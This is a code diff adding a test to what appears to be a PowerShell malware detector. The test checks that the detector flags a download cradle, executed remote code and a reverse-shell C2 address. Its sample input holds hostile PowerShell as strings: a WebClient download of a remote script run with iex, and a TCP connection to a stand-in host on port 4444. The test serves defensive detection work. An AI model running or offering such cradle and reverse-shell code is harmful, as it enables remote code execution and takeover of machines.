@@ -208,3 +208,23 @@ test('URL lists split with -split on a character class are all payload URLs', as
   for (const url of urls) assertPayload(run, url);
   assert.ok(ids(run).has('powershell.download.url-list'), 'url-list');
 });
+
+test('script cmdlets with attributes, redirections inside pipelines, and a reverse shell', async () => {
+  const run = await analyze(
+    [
+      'function Get-Stage {',
+      '  [CmdletBinding()]',
+      '  Param ([Parameter(Position = 0, Mandatory = $True)] [String] $Url, [Parameter(Position = 1)] [Type] $Kind = [Void])',
+      '  (New-Object Net.WebClient).DownloadString($Url)',
+      '}',
+      `$code = Get-Stage '${URL_1}'`,
+      '$out = (iex $code 2>&1 | Out-String)',
+      '$c = New-Object System.Net.Sockets.TCPClient("203.0.113.9", 4444); $s = $c.GetStream()',
+    ].join('\r\n'),
+  );
+  assert.ok(!ids(run).has('powershell.parse.incomplete'), JSON.stringify(run.findings.filter((f) => f.id === 'powershell.parse.incomplete')));
+  assertPayload(run, URL_1);
+  assert.ok(ids(run).has('powershell.exec.download-cradle'), 'the function result is executed');
+  assert.ok(ids(run).has('powershell.c2.reverse-shell'), 'reverse shell');
+  assert.ok(run.iocs.some((i) => i.type === 'ip' && i.value === '203.0.113.9' && i.role === 'c2' && i.port === 4444), 'C2 address with port');
+});
